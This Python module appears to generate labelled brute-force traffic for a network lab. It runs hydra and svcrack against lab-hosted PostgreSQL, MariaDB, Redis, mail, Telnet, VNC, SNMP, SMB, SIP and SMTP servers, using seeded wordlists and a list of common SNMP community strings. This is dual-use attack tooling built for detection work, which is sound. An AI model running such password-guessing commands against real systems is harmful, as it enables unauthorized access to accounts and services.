"""Brute force against more protocols with hydra: PostgreSQL, MariaDB, Redis, IMAP, POP3, Telnet, VNC, SNMP.

Each runs the real server (from :mod:`.servers`) and hydra from the attacker
with small seeded wordlists (the valid password is in the list for about half
the seeds, so some runs end in a login), bounded by the list sizes, hydra's
own wait and a process timeout. Targets are lab addresses only.
"""

from __future__ import annotations

from multa_broker.lab.labels import Labels, ports
from multa_broker.lab.mailservers import dovecot
from multa_broker.lab.scenario import Context, scenario
from multa_broker.lab.servers import (PG_BIN, Account, mariadb, need_user, postgres, redis_auth, samba, snmpd,
                                      telnetd, xvnc)
from multa_broker.lab.threats import PASSWORDS, USERS

BF_DB = Labels("database", "cleartext", "none", "bruteforce")
BF_MAIL = Labels("mail", "cleartext", "none", "bruteforce")
BF_REMOTE = Labels("remote", "cleartext", "none", "bruteforce")
BF_NETMGMT = Labels("netmgmt", "cleartext", "none", "bruteforce")
BF_WINDOWS = Labels("windows", "cleartext", "none", "bruteforce")

COMMUNITIES = ["public", "private", "community", "snmp", "manager", "admin", "cisco", "default", "monitor",
               "write", "read", "secret", "network", "test", "guest", "system", "ILMI", "router", "switch", "san-fran"]


def _lists(ctx: Context, acct: Account | None, users: list[str] | None, words: list[str]) -> list[str]:
    """hydra's -L/-P (or -P only when ``users`` is None) options, with the valid login in half the runs."""
    pw = ctx.rng.sample(words, k=min(len(words), ctx.count(15, 30, minimum=3)))
    if acct and ctx.rng.random() < 0.5:
        pw.insert(ctx.rng.randrange(len(pw) + 1), acct.password)
        ctx.notes.append("valid password in the list")
    opts = ["-P", str(ctx.write("hydra/pass.txt", "\n".join(pw) + "\n"))]
    if users is not None:
        u = ctx.rng.sample(users, k=min(len(users), ctx.count(2, 5, minimum=1)))
        if acct and acct.user not in u and ctx.rng.random() < 0.7:
            u.append(acct.user)
        opts = ["-L", str(ctx.write("hydra/users.txt", "\n".join(u) + "\n")), *opts]
    return opts


def _hydra(ctx: Context, lists: list[str], target: str, timeout: float, tasks: tuple[int, int] = (2, 4),
           extra: list[str] = ()) -> None:
    argv = ["hydra", "-I", "-q", "-t", str(ctx.rng.randint(*tasks)), "-w", "10", "-o", str(ctx.path("hydra/found.txt")),
            *extra, *lists, target]
    ctx.client("atk", argv, timeout=timeout * max(ctx.scale, 0.3))


@scenario("bf-postgres", "threat", "hydra password guessing against PostgreSQL 15 (md5 or SCRAM)",
          needs=("hydra", "runuser", str(PG_BIN / "postgres"), str(PG_BIN / "initdb")),
          check=lambda: need_user("postgres"))
def bf_postgres(ctx: Context) -> None:
    ctx.rule(BF_DB, server=ctx.srv.ip, ports=ports(5432), client=ctx.atk.ip, protos=("tcp",), what="hydra postgres")
    acct = postgres(ctx, ctx.srv.ip)
    db = ctx.choice(["", "/app", "/postgres"])
    _hydra(ctx, _lists(ctx, acct, ["postgres", "admin", "root", "app", "user", "test"], PASSWORDS),
           f"postgres://{ctx.target(ctx.srv.ip)}{db}", timeout=150)


@scenario("bf-mysql", "threat", "hydra password guessing against MariaDB 10.11 (mysql protocol)",
          needs=("hydra", "mariadb-install-db", "mariadbd", "mariadb"))
def bf_mysql(ctx: Context) -> None:
    ctx.rule(BF_DB, server=ctx.srv.ip, ports=ports(3306), client=ctx.atk.ip, protos=("tcp",), what="hydra mysql")
    acct = mariadb(ctx, ctx.srv.ip)
    _hydra(ctx, _lists(ctx, acct, ["root", "admin", "mysql", "app", "user", "test", "dba"], PASSWORDS),
           f"mysql://{ctx.target(ctx.srv.ip)}", timeout=150, tasks=(1, 4))


@scenario("bf-redis", "threat", "hydra password guessing against redis-server with requirepass",
          needs=("hydra", "redis-server"))
def bf_redis(ctx: Context) -> None:
    ctx.rule(BF_DB, server=ctx.srv.ip, ports=ports(6379), client=ctx.atk.ip, protos=("tcp",), what="hydra redis")
    acct = redis_auth(ctx, ctx.srv.ip)
    _hydra(ctx, _lists(ctx, acct, None, PASSWORDS), f"redis://{ctx.target(ctx.srv.ip)}", timeout=120)


def _bf_mail(ctx: Context, proto: str, port: int) -> None:
    ctx.rule(BF_MAIL, server=ctx.srv.ip, ports=ports(port), client=ctx.atk.ip, protos=("tcp",), what=f"hydra {proto}")
    accts = dovecot(ctx, ctx.srv.ip, users=2, messages=(2, 5))
    acct = ctx.choice(accts)
    mech = ctx.choice(["", "/LOGIN", "/PLAIN"] if proto == "imap" else ["", "/PLAIN", "/LOGIN"])
    _hydra(ctx, _lists(ctx, acct, [a.user for a in accts] + ["admin", "info", "postmaster", "sales", "test"], PASSWORDS),
           f"{proto}://{ctx.target(ctx.srv.ip)}{mech}", timeout=150)


@scenario("bf-imap", "threat", "hydra password guessing against Dovecot IMAP (LOGIN/PLAIN)",
          needs=("hydra", "dovecot"), check=lambda: need_user("dovenull"))
def bf_imap(ctx: Context) -> None:
    _bf_mail(ctx, "imap", 143)


@scenario("bf-pop3", "threat", "hydra password guessing against Dovecot POP3 (USER/PASS, PLAIN, LOGIN)",
          needs=("hydra", "dovecot"), check=lambda: need_user("dovenull"))
def bf_pop3(ctx: Context) -> None:
    _bf_mail(ctx, "pop3", 110)


@scenario("bf-telnet", "threat", "hydra password guessing against inetutils telnetd (lab login program)",
          needs=("hydra", "inetutils-inetd", "/usr/sbin/telnetd", "/usr/bin/python3"))
def bf_telnet(ctx: Context) -> None:
    ctx.rule(BF_REMOTE, server=ctx.srv.ip, ports=ports(23), client=ctx.atk.ip, protos=("tcp",), what="hydra telnet")
    acct = telnetd(ctx, ctx.srv.ip)
    _hydra(ctx, _lists(ctx, acct, USERS + ["operator", "admin"], PASSWORDS), f"telnet://{ctx.target(ctx.srv.ip)}",
           timeout=150, tasks=(1, 4))


@scenario("bf-vnc", "threat", "hydra password guessing against TigerVNC Xvnc (VNC authentication)",
          needs=("hydra", "Xvnc", "vncpasswd"))
def bf_vnc(ctx: Context) -> None:
    ctx.rule(BF_REMOTE, server=ctx.srv.ip, ports=ports(5900), client=ctx.atk.ip, protos=("tcp",), what="hydra vnc")
    acct = xvnc(ctx, ctx.srv.ip)
    _hydra(ctx, _lists(ctx, acct, None, [p[:8] for p in PASSWORDS]), f"vnc://{ctx.target(ctx.srv.ip)}",
           timeout=120, tasks=(1, 2))


@scenario("bf-snmp", "threat", "hydra SNMP community guessing against net-snmp snmpd (v1/v2c)",
          needs=("hydra", "snmpd"))
def bf_snmp(ctx: Context) -> None:
    ctx.rule(BF_NETMGMT, server=ctx.srv.ip, ports=ports(161), client=ctx.atk.ip, protos=("udp",), what="hydra snmp")
    community = snmpd(ctx, [ctx.srv.ip])
    words = [c for c in COMMUNITIES if c != community]
    version = ctx.choice(["", "/1", "/2"])
    _hydra(ctx, _lists(ctx, Account("", community), None, words), f"snmp://{ctx.target(ctx.srv.ip)}{version}",
           timeout=90, tasks=(1, 4))


@scenario("bf-smb", "threat", "hydra password guessing against Samba smbd over SMB1/NTLM (a legacy file server)",
          needs=("hydra", "smbd", "pdbedit"))
def bf_smb(ctx: Context) -> None:
    ctx.rule(BF_WINDOWS, server=ctx.srv.ip, ports=ports(445), client=ctx.atk.ip, protos=("tcp",), what="hydra smb")
    acct, _ = samba(ctx, ctx.srv.ip, files=1, legacy=True)
    mode = ctx.choice(["", "/LOCAL", "/BOTH", "/LOCAL NTLMV2", "/NTLM"])
    _hydra(ctx, _lists(ctx, acct, ["administrator", "admin", "guest", "backup", "user", "root"], PASSWORDS),
           f"smb://{ctx.target(ctx.srv.ip)}{mode}", timeout=150, tasks=(1, 1))


BF_VOIP = Labels("voip", "cleartext", "none", "bruteforce")


@scenario("bf-sip", "threat", "SIPVicious svcrack digest-password guessing against Kamailio REGISTER",
          needs=("svcrack", "kamailio"))
def bf_sip(ctx: Context) -> None:
    from multa_broker.lab.servers import kamailio
    ctx.rule(BF_VOIP, server=ctx.srv.ip, ports=ports(5060), client=ctx.atk.ip, protos=("udp", "tcp"), what="svcrack")
    acct = kamailio(ctx, ctx.srv.ip)
    # svcrack sends everything from one UDP socket (one flow per run): each run gets its own source port.
    for port in ctx.rng.sample(range(5061, 5200), k=ctx.rng.randint(2, 5)):
        user = str(ctx.rng.randint(100, 999))
        if ctx.rng.random() < 0.5:
            opts = _lists(ctx, acct, None, PASSWORDS)
            crack = ["-d", opts[1]]
        else:
            lo = ctx.rng.randint(0, 5000)
            crack = ["-r", f"{lo}-{lo + ctx.count(100, 600, minimum=20)}", "-z", "4"]
        ctx.client("atk", ["svcrack", "-u", user, *crack, "-P", str(port), "-t", str(ctx.choice([0.005, 0.02, 0.05])),
                           ctx.target(ctx.srv.ip)], timeout=40 * max(ctx.scale, 0.3))


@scenario("bf-smtp", "threat", "hydra SMTP AUTH (LOGIN/PLAIN) password guessing against Postfix with Dovecot SASL",
          needs=("hydra", "postfix", "dovecot"), check=lambda: need_user("postfix") or need_user("dovenull"))
def bf_smtp(ctx: Context) -> None:
    from multa_broker.lab.mailservers import postfix
    ctx.rule(BF_MAIL, server=ctx.srv.ip, ports=ports(25), client=ctx.atk.ip, protos=("tcp",), what="hydra smtp")
    accts = dovecot(ctx, ctx.srv.ip, users=2, messages=(1, 2), sasl_port=12345)
    postfix(ctx, ctx.srv.ip, sasl_port=12345)
    acct = ctx.choice(accts)
    _hydra(ctx, _lists(ctx, acct, [a.user for a in accts] + ["admin", "info", "postmaster", "webmaster", "test"],
                       PASSWORDS), f"smtp://{ctx.target(ctx.srv.ip)}/{ctx.choice(['LOGIN', 'PLAIN'])}", timeout=150)
